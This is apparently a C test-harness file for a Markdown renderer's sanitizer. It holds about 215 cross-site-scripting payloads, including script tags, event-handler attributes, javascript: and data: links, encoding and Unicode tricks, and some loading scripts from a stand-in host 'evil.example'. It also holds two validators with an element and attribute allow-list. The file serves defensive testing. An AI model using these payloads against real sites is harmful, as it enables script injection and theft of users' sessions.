/* SPDX-License-Identifier: Apache-2.0 */
/* The texts, and two judges of a page: one reads every tag by a strict grammar, one asks libxml2's HTML
 * parser. */
#include "harness/xss.h"

#include <libxml/HTMLparser.h>
#include <stdio.h>

const char *const xss_cases[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "<script/src=\"data:text/javascript,alert(3)\"></script>",
    "<script>/*</script><script>*/alert(4)</script>",
    "< script>alert(5)</ script>",
    "<script\x0Ctype=\"text/javascript\">alert(6)</script>",
    "<script\ntype=module>import('//evil.example/m.js')</script>",
    "</p><script>alert(7)</script><p>",
    "**<script>alert(8)</script>**",
    "`<script>alert(9)</script>`",
    "```\n<script>alert(10)</script>\n```",
    "    <script>alert(11)</script>",
    "> <script>alert(12)</script>",
    "- <script>alert(13)</script>",
    "1. <script>alert(14)</script>",
    "# <script>alert(15)</script>",
    "|a|\n|-|\n|<script>alert(16)</script>|",
    "~~<script>alert(17)</script>~~",
    "[<script>alert(18)</script>](http://a.example)",
    "![<script>alert(19)</script>](picture:1)",
    "<img src=x onerror=alert(20)>",
    "<img src=\"x\" onerror=\"alert(21)\"",
    "<img/src=x/onerror=alert(22)//",
    "<img src=x onerror\x0B=alert(23)>",
    "<IMG SRC=\"jav\tascript:alert(24);\">",
    "<img src=`x` onerror=`alert(25)`>",
    "<img srcset=\"x 1x, javascript:alert(26) 2x\">",
    "<img \"\"\"><script>alert(27)</script>\">",
    "<image href=\"javascript:alert(28)\">",
    "<svg onload=alert(29)>",
    "<svg><script>alert(30)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(31)\"><text>press</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(32)>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(33)</script>\"></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x'/>#x\"></svg>",
    "<svg><style><img src=\"</style><img src=x onerror=alert(35)>\"></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(36)></style></mglyph></table></mtext>",
    "<math href=\"javascript:alert(37)\">x</math>",
    "<iframe src=\"javascript:alert(38)\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(39)&lt;/script&gt;\">",
    "<object data=\"data:text/html,<script>alert(40)</script>\"></object>",
    "<embed src=\"javascript:alert(41)\">",
    "<applet code=\"x.class\">",
    "<base href=\"javascript:alert(43)//\">",
    "<link rel=stylesheet href=\"javascript:alert(44)\">",
    "<link rel=\"import\" href=\"//evil.example/i.html\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(46)\">",
    "<meta charset=\"utf-7\">",
    "<style>@import'javascript:alert(48)';</style>",
    "<style>body{background:url(\"javascript:alert(49)\")}</style>",
    "<div style=\"width:expression(alert(50))\">x</div>",
    "<div style=\"background:url(javascript:alert(51))\">x</div>",
    "<div onmouseover=alert(52)>over</div>",
    "<p onclick=\"alert(53)\">press</p>",
    "<body onload=alert(54)>",
    "<body background=\"javascript:alert(55)\">",
    "<form action=\"javascript:alert(56)\"><input type=submit></form>",
    "<form><button formaction=\"javascript:alert(57)\">press</button></form>",
    "<input autofocus onfocus=alert(58)>",
    "<input type=image src=x onerror=alert(59)>",
    "<select autofocus onfocus=alert(60)>",
    "<textarea autofocus onfocus=alert(61)>",
    "<keygen autofocus onfocus=alert(62)>",
    "<video><source onerror=\"alert(63)\">",
    "<video src=x onerror=alert(64)>",
    "<video poster=javascript:alert(65)//></video>",
    "<audio src=x onerror=alert(66)>",
    "<details open ontoggle=alert(67)>",
    "<marquee onstart=alert(68)>x</marquee>",
    "<isindex action=javascript:alert(69) type=image>",
    "<table background=\"javascript:alert(70)\">",
    "<td background=\"javascript:alert(71)\">",
    "<frameset><frame src=\"javascript:alert(72)\"></frameset>",
    "<template><script>alert(73)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(74)>\"></noscript>",
    "<xmp><script>alert(75)</script></xmp>",
    "<plaintext><script>alert(76)</script>",
    "<title><script>alert(77)</script></title>",
    "<a href=\"javascript:alert(78)\">press</a>",
    "<a href=javascript&colon;alert(79)>press</a>",
    "<a href=\"vbscript:msgbox(80)\">press</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCg4MSk8L3NjcmlwdD4=\">press</a>",
    "<a name=\"x\" id=\"location\" href=\"#\">clobber</a>",
    "<form id=\"document\"><input name=\"cookie\"></form>",
    "<?xml-stylesheet href=\"javascript:alert(84)\"?>",
    "<!DOCTYPE html [<!ENTITY x \"<script>alert(85)</script>\">]>&x;",
    "<![CDATA[<script>alert(86)</script>]]>",
    "<!--><script>alert(87)</script>-->",
    "<!-- --!><script>alert(88)</script> -->",
    "<!--[if gte IE 4]><script>alert(89)</script><![endif]-->",
    "<!-- \n--><img src=x onerror=alert(90)>",
    "<br onclick=alert(91)>",
    "<br/onmouseover=alert(92)>",
    "<br><script>alert(93)</script>",
    "<BR SIZE=\"&{alert(94)}\">",
    "[press](javascript:alert(95))",
    "[press](JaVaScRiPt:alert(96))",
    "[press](javascript&#58;alert(97))",
    "[press](javascript&colon;alert(98))",
    "[press](&#106;avascript:alert(99))",
    "[press](&#x6a;&#x61;vascript:alert(100))",
    "[press](java&Tab;script:alert(101))",
    "[press](java&NewLine;script:alert(102))",
    "[press](<java\tscript:alert(103)>)",
    "[press](<javascript:alert('104')>)",
    "[press](&#1;javascript:alert(105))",
    "[press](&#32;javascript:alert(106))",
    "[press](%6aavascript:alert(107))",
    "[press](javascript%3aalert(108))",
    "[press](\\javascript:alert(109))",
    "[press](vbscript:msgbox(110))",
    "[press](data:text/html,<script>alert(111)</script>)",
    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMTIpPC9zY3JpcHQ+)",
    "[press](data:image/svg+xml;base64,PHN2Zy8+)",
    "[press](file:///etc/hosts)",
    "[press](blob:http://a.example/1)",
    "[press](filesystem:http://a.example/1)",
    "[press](view-source:javascript:alert(117))",
    "[press](feed:javascript:alert(118))",
    "[press](jar:http://a.example/x!/)",
    "[press](about:blank)",
    "[press](ws://a.example)",
    "[press](ftp://a.example)",
    "[press](intent://a.example#Intent;scheme=javascript;end)",
    "[press](weixin://dl/scan)",
    "[press](http://a.example\" onmouseover=\"alert(125))",
    "[press](http://a.example/'onclick='alert(126))",
    "[press](http://a.example \"title\" onclick=\"alert(127)\")",
    "[press](http://a.example \"\\\"><script>alert(128)</script>\")",
    "[press](http://a.example '\"><img src=x onerror=alert(129)>')",
    "[press](http://a.example/\"><script>alert(130)</script>)",
    "[press](<http://a.example/\"onclick=\"alert(131)\">)",
    "[press]( javascript:alert(132) )",
    "[press][x]\n\n[x]: javascript:alert(133)",
    "[press][x]\n\n[x]: <javascript:alert(134)> \"t\"",
    "[x]\n\n[x]: data:text/html,x \"\\\" onclick=\\\"alert(135)\"",
    "[press][]\n\n[press]: vbscript:x",
    "[<img src=x onerror=alert(137)>](javascript:alert(137))",
    "[![x](x)](javascript:alert(138))",
    "[a](//evil.example/\\..\\)",
    "[a](/\\evil.example)",
    "[a](\\\\evil.example)",
    "![x](javascript:alert(142))",
    "![x](data:image/svg+xml,<svg/onload=alert(143)>)",
    "![x](https://evil.example/track.gif)",
    "![x](//evil.example/track.gif)",
    "![x](picture:1\"onerror=\"alert(146))",
    "![x](picture:1 \"\\\"><script>alert(147)</script>\")",
    "![\" onerror=\"alert(148)](picture:1)",
    "![x\"><script>alert(149)</script>](picture:1)",
    "![x](picture:../../keys)",
    "![x](file:1)",
    "![x](video:1'><script>alert(152)</script>)",
    "![x](audio:javascript:alert(153))",
    "![x](PICTURE:1)",
    "![[press](javascript:alert(155))](picture:1)",
    "<javascript:alert(156)>",
    "<JAVASCRIPT:alert(157)>",
    "<data:text/html,x>",
    "<vbscript:x>",
    "<http://a.example/\"onclick=\"alert(160)>",
    "<http://a.example/?q=<script>alert(161)</script>>",
    "<mailto:a@b.example?body=\"onclick=alert(162)>",
    "<\"onclick=alert(163)\"@b.example>",
    "https://a.example/\"onclick=\"alert(164)",
    "https://a.example/<script>alert(165)</script>",
    "https://a.example/'onmouseover='alert(166)'",
    "www.a.example/\"><script>alert(167)</script>",
    "http://javascript:alert(168)@a.example/",
    "a@b.example\"><script>alert(169)</script>",
    "javascript:alert(170)",
    "&lt;script&gt;alert(171)&lt;/script&gt;",
    "&#60;script&#62;alert(172)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;alert(173)",
    "&quot;&gt;&lt;img src=x onerror=alert(174)&gt;",
    "```\"><script>alert(175)</script>\nx\n```",
    "```js onclick=alert(176)\nx\n```",
    "~~~<img src=x onerror=alert(177)>\nx\n~~~",
    "`\" onclick=\"alert(178)`",
    "``` ` <script>alert(179)</script> ` ```",
    "- [x] <img src=x onerror=alert(180)>",
    "- [ ](javascript:alert(181))",
    "99999999999. <script>alert(182)</script>",
    "|<script>|</script>|\n|-|-|\n|alert(183)|`|`|",
    "|a|\n|:-:|\n|\" onclick=\"alert(184)|",
    "# x {onclick=alert(185)}",
    "x\n<script>alert(186)</script>\n===",
    "***<b onclick=alert(187)>***",
    "\\<script>alert(188)\\</script>",
    "\\[press](javascript:alert(189))",
    "**\xE3\x80\x8C<script>alert(190)</script>\xE3\x80\x8D**\xE5\x90\x8E\xE6\x96\x87",
    "这是**[重点](javascript:alert(191))，**后面",
    "\xEF\xB7\x90<script>alert(192)</script>",
    "<scr\xEF\xB7\x90ipt>alert(193)</scr\xEF\xB7\x90ipt>",
    "[press](java\xEF\xB7\x90script:alert(194))",
    "[press](\xEF\xB7\x90javascript:alert(195))",
    "<\xE2\x80\x8Bscript>alert(196)</script>",
    "[press](java\xE2\x80\x8Bscript:alert(197))",
    "＜script＞alert(198)＜/script＞",
    "[press](ｊavascript:alert(199))",
    "\xE2\x80\xAE<script>alert(200)</script>",
    "<a/href=\"http://a.example\"/onclick=alert(201)>",
    "<div\xE3\x80\x80onclick=alert(202)>",
    "<ｓcript>alert(203)</ｓcript>",
    "<!-- **<script>alert(204)</script>** --\n>",
    "<p>\n\n<script>alert(205)</script>\n\n</p>",
    "<pre>\n\n[press](javascript:alert(206))\n\n</pre>",
    "<div>[press](javascript:alert(207))</div>",
    "<a href=\"x\">[press](javascript:alert(208))</a>",
    "[press](http://a.example)<script>alert(209)</script>",
    "{{constructor.constructor('alert(210)')()}}",
    "${alert(211)}",
    "<%= alert(212) %>",
    "'",
    "\"><",
    "</div></body></html><script>alert(215)</script>",
};
const size_t xss_cases_n = sizeof xss_cases / sizeof xss_cases[0];

/* What may come out, and with which attributes (each with a space before and behind). */
static const struct {
    const char *element, *attributes;
} allowed[] = {
    { "a", " href rel " },
    { "blockquote", "" },
    { "br", "" },
    { "code", "" },
    { "del", "" },
    { "div", " class tabindex " },
    { "em", "" },
    { "figcaption", "" },
    { "figure", "" },
    { "h1", "" },
    { "h2", "" },
    { "h3", "" },
    { "h4", "" },
    { "h5", "" },
    { "h6", "" },
    { "hr", "" },
    { "img", " src srcset sizes width height alt loading decoding " },
    { "li", "" },
    { "ol", " start " },
    { "p", "" },
    { "pre", " tabindex " },
    { "small", "" },
    { "span", " class " },
    { "strong", "" },
    { "table", "" },
    { "tbody", "" },
    { "td", " class " },
    { "th", " class scope " },
    { "thead", "" },
    { "tr", "" },
    { "ul", "" },
};

static const char *attributes_of(str element)
{
    for (size_t i = 0; i < sizeof allowed / sizeof allowed[0]; i++)
        if (str_eq(str_from_c(allowed[i].element), element))
            return allowed[i].attributes;
    return NULL;
}

static bool may_have(const char *attributes, str name)
{
    char padded[64];
    int n = snprintf(padded, sizeof padded, " %.*s ", STR_ARG(name));
    return n > 0 && (size_t)n < sizeof padded && strstr(attributes, padded) != NULL;
}

static bool starts_so(str address, const char *head)
{
    str h = str_from_c(head);
    return str_eq_nocase(str_slice(address, 0, h.n), h);
}

/* A relative address has no ":" before the first "/", "?" or "#". */
static bool is_harmless(str address)
{
    if (starts_so(address, "http://") || starts_so(address, "https://") || starts_so(address, "mailto:") ||
        starts_so(address, "tel:"))
        return true;
    for (size_t i = 0; i < address.n && strchr("/?#", address.p[i]) == NULL; i++)
        if (address.p[i] == ':' || (unsigned char)address.p[i] <= ' ')
            return false;
    return true;
}

static bool attribute_is_good(const char *attributes, str name, str value)
{
    if (!may_have(attributes, name))
        return false;
    if (str_eq(name, S("href")))
        return is_harmless(value);
    if (str_eq(name, S("src")) || str_eq(name, S("srcset")))
        return str_starts(value, S("/")) && !str_starts(value, S("//"));
    return true;
}

/* ---- by grammar: "<" begins a tag of ours or is not there ---- */

static size_t name_length(str s)
{
    size_t n = 0;
    while (n < s.n && ((s.p[n] >= 'a' && s.p[n] <= 'z') || (n > 0 && s.p[n] >= '0' && s.p[n] <= '9')))
        n++;
    return n;
}

/* Every "&" begins one of the five escapes, so that a value hides nothing. */
static bool is_escaped(str s)
{
    static const char *const escapes[] = { "&amp;", "&lt;", "&gt;", "&quot;", "&#39;" };
    for (size_t i = 0; i < s.n; i++) {
        bool is_good = s.p[i] != '&';
        for (size_t k = 0; k < sizeof escapes / sizeof escapes[0]; k++)
            is_good = is_good || str_starts(str_slice(s, i, s.n), str_from_c(escapes[k]));
        if (!is_good)
            return false;
    }
    return str_find_char(s, '<') == SIZE_MAX && str_find_char(s, '>') == SIZE_MAX;
}

/* Takes ' name="value"' off *rest. */
static bool take_attribute(const char *attributes, str *rest)
{
    str name = str_slice(*rest, 1, name_length(str_slice(*rest, 1, rest->n)));
    str value = str_slice(*rest, name.n + 1, rest->n);
    if (name.n == 0 || !str_starts(value, S("=\"")))
        return false;
    value = str_slice(value, 2, value.n);
    size_t end = str_find_char(value, '"');
    if (end == SIZE_MAX)
        return false;
    *rest = str_slice(value, end + 1, value.n);
    value = str_slice(value, 0, end);
    return is_escaped(value) && attribute_is_good(attributes, name, value);
}

static bool take_tag(str *rest)
{
    bool is_end = str_starts(*rest, S("</"));
    str tail = str_slice(*rest, is_end ? 2 : 1, rest->n);
    str name = str_slice(tail, 0, name_length(tail));
    const char *attributes = attributes_of(name);
    tail = str_slice(tail, name.n, tail.n);
    if (attributes == NULL)
        return false;
    while (!is_end && str_starts(tail, S(" ")))
        if (!take_attribute(attributes, &tail))
            return false;
    if (!str_starts(tail, S(">")))
        return false;
    *rest = str_slice(tail, 1, tail.n);
    return true;
}

static bool is_good_by_grammar(str page)
{
    for (size_t at; (at = str_find_char(page, '<')) != SIZE_MAX;) {
        page = str_slice(page, at, page.n);
        if (!take_tag(&page))
            return false;
    }
    return true;
}

/* ---- by libxml2 ---- */

static bool element_is_good(const xmlNode *node)
{
    str name = str_from_c((const char *)node->name);
    const char *attributes = attributes_of(name);
    if (str_eq(name, S("html")) || str_eq(name, S("body")))
        return node->properties == NULL;
    if (attributes == NULL)
        return false;
    for (const xmlAttr *a = node->properties; a != NULL; a = a->next) {
        str value = a->children != NULL ? str_from_c((const char *)a->children->content) : S("");
        if (!attribute_is_good(attributes, str_from_c((const char *)a->name), value))
            return false;
    }
    return true;
}

static const xmlNode *next_of(const xmlNode *node)
{
    if (node->children != NULL && node->type == XML_ELEMENT_NODE)
        return node->children;
    while (node != NULL && node->next == NULL)
        node = node->parent;
    return node != NULL ? node->next : NULL;
}

static bool is_good_by_parser(str page)
{
    htmlDocPtr doc = htmlReadMemory(page.p, (int)page.n, NULL, "UTF-8",
                                    HTML_PARSE_NOERROR | HTML_PARSE_NOWARNING | HTML_PARSE_NONET |
                                        HTML_PARSE_NODEFDTD | HTML_PARSE_RECOVER);
    bool is_good = true;
    if (doc == NULL)
        return str_is_empty(str_trim(page));
    for (const xmlNode *n = xmlDocGetRootElement(doc); n != NULL && is_good; n = next_of(n))
        is_good = n->type == XML_TEXT_NODE || (n->type == XML_ELEMENT_NODE && element_is_good(n));
    xmlFreeDoc(doc);
    return is_good;
}

bool xss_is_harmless(str page)
{
    return is_good_by_grammar(page) && is_good_by_parser(page);
}
